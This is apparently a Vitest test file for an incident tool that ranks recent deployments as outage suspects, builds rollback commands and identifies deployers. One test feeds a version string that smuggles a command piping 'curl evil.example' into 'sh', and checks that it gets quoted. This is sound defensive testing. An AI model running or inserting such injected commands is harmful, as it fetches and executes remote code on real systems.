import { describe, expect, it } from 'vitest';
import type { Service } from '../../shared/catalogue/catalogue.ts';
import type { Deployment } from '../../shared/deployment/deployment.ts';
import { inSequence } from '../../shared/deployment/sequence.ts';
import { type About, type Known, rankSuspects } from '../../shared/suspect/suspect.ts';
import { at } from '../incident/world.ts';

function service(name: string, rollback: string): Service {
  const urgency = { critical: 'high', error: 'high', warning: 'low', info: 'none' } as const;
  return { name, aliases: [], dependsOn: [], urgency, rollback };
}

const about: About = { service: 'payments-api', environment: 'production', onset: at(0), resources: [] };
const minutes = (n: number) => at(n * 60);
const deployment = (version: string, when: string, more: Partial<Deployment> = {}): Deployment => ({
  id: `gitlab:${version}:${when}`,
  sender: 'gitlab',
  ref: 'payments/api',
  service: 'payments-api',
  environment: 'production',
  version,
  status: 'succeeded',
  at: when,
  links: {},
  ...more,
});
const known: Known = {
  environmentNamed: (name) => name,
  catalogue: {
    people: {
      chidi: {
        id: 'chidi',
        name: 'Chidi Eze',
        contact: { slack: 'U024BE7LK' },
        rules: { high: [], low: [] },
        logins: ['chidi-eze'],
        handle: 'chidi',
      },
    },
    services: {
      'payments-api': service('payments-api', 'deploy payments {{ deployment.lastGood }} --to {{ environment }}'),
      ledger: service('ledger', 'deploy ledger {{ deployment.lastGood }}'),
    },
    runbooks: {
      '5xx': {
        id: '5xx',
        title: '5xx',
        body: '# 5xx\n## Mitigation\nWait.\n### Roll back\n    $ git push deploy {{ deployment.lastGood }}:main\n',
        aliases: [],
      },
      'without-a-word': { id: 'without-a-word', title: '-', body: '## Steps\nWait.\n', aliases: [] },
    },
  },
};
const rank = (own: Deployment[], dependency: Deployment[] = [], asked: About = about) =>
  rankSuspects(
    [
      ...inSequence(own).map((sequenced) => ({ sequenced, distance: 0 })),
      ...inSequence(dependency).map((sequenced) => ({ sequenced, distance: 1 })),
    ],
    asked,
    known,
  );

describe('suspects of an incident', () => {
  it('a lone deployment minutes before is called a suspect, and says where a rollback leads', () => {
    const [first] = rank([deployment('v1.41.3', minutes(-3 * 1440)), deployment('v1.42.0', minutes(-14))]);
    expect(first).toMatchObject({ version: 'v1.42.0', likely: true, lastGood: 'v1.41.3' });
    expect(first!.why).toBe('14m before it began, to the service itself');
  });

  it('what was deployed more than a day before is none, and still says what ran well', () => {
    expect(rank([deployment('v1.41.3', minutes(-1441))])).toEqual([]);
  });

  it('two that look alike share the suspicion: neither is called a suspect', () => {
    const list = rank([deployment('v1', minutes(-10)), deployment('v2', minutes(-9))]);
    expect(list.map(({ likely }) => likely)).toEqual([false, false]);
  });

  it('its own service comes before what it depends on', () => {
    const list = rank(
      [deployment('own', minutes(-20))],
      [deployment('of the ledger', minutes(-20), { ref: 'ledger' })],
    );
    expect(list.map(({ version }) => version)).toEqual(['own', 'of the ledger']);
    expect(list[1]!.why).toContain('to what it depends on');
  });

  it('what a skewed clock puts after the onset is kept, marked and last, however lonely', () => {
    const list = rank([
      deployment('later', minutes(10)),
      deployment('old', minutes(-1200), { environment: 'staging' }),
    ]);
    expect(list.map(({ version }) => version)).toEqual(['old', 'later']);
    expect(list[1]).toMatchObject({ likely: false, why: '10m after it began, to the service itself' });
  });

  it('a rollback is called one', () => {
    const list = rank([
      deployment('v1', minutes(-600)),
      deployment('v2', minutes(-60)),
      deployment('v1', minutes(-5), { id: 'again' }),
    ]);
    expect(list[0]).toMatchObject({ deployment: 'again', lastGood: 'v2' });
    expect(list[0]!.why).toContain('a rollback');
  });

  it('says by which factors, so that it can be explained', () => {
    const [first] = rank([deployment('v1', minutes(-14), { status: 'failed' })]);
    expect(first!.parts).toMatchObject({ outcome: 2, environment: 1, distance: 1 });
  });
});

describe('how to go back', () => {
  const good = deployment('v1.41.3', minutes(-3 * 1440));
  const bad = deployment('v1.42.0', minutes(-14));
  const hint = (list: ReturnType<typeof rank>) => list[0]?.rollback;

  it('is the command of the service, with the last good version in it', () =>
    expect(hint(rank([good, bad]))).toBe('deploy payments v1.41.3 --to production'));

  it('is the section of the runbook where it has one', () =>
    expect(hint(rank([good, bad], [], { ...about, runbook: '5xx' }))).toBe('git push deploy v1.41.3:main'));

  it('is the command of the service where the runbook says nothing of it', () =>
    expect(hint(rank([good, bad], [], { ...about, runbook: 'without-a-word' }))).toContain('deploy payments v1.41.3'));

  it('is that of the service that was deployed, not of the one that fails', () => {
    const ledger = { ref: 'ledger', service: 'ledger' };
    const list = rank([], [deployment('v8', minutes(-2000), ledger), deployment('v9', minutes(-5), ledger)], {
      ...about,
      runbook: '5xx',
    });
    expect(hint(list)).toBe('deploy ledger v8');
  });

  it('is left out and says why where nothing ran well before', () =>
    expect(hint(rank([bad]))).toBe('The command is left out: no earlier version that ran well is on record.'));

  it('is not said of what was taken back already, or came after the onset', () => {
    expect(hint(rank([good, { ...bad, status: 'rolled-back' }]))).toBeUndefined();
    expect(hint(rank([deployment('v1', minutes(10))]))).toBeUndefined();
  });

  it('holds a hostile version as one word', () => {
    const hostile = deployment("v1'; curl evil.example | sh #", minutes(-3 * 1440));
    expect(hint(rank([hostile, bad]))).toBe(`deploy payments 'v1'\\''; curl evil.example | sh #' --to production`);
  });

  it('names the commit where the version is only a branch', () => {
    const commits = ['a', 'b'].map((letter) => letter.repeat(40));
    const list = rank([
      deployment('main', minutes(-3000), { commit: commits[0]! }),
      deployment('main', minutes(-14), { commit: commits[1]!, id: 'two' }),
    ]);
    expect(list[0]).toMatchObject({ version: 'bbbbbbbb', lastGood: 'aaaaaaaa' });
    expect(hint(list)).toContain('deploy payments aaaaaaaa');
  });
});

describe('who deployed it', () => {
  const author = (by: string) => rank([deployment('v1', minutes(-14), { by })])[0]?.author;
  it.each([
    ['by the name they have with the sender', 'Chidi-Eze', 'Chidi Eze (@chidi)'],
    ['by their own name', 'chidi eze', 'Chidi Eze (@chidi)'],
    ['nobody by a name like theirs', 'chidi', undefined],
    ['nobody by what would mention', '<!channel>', undefined],
  ])('is found %s', (_, by, expected) => expect(author(by)).toBe(expected));
});
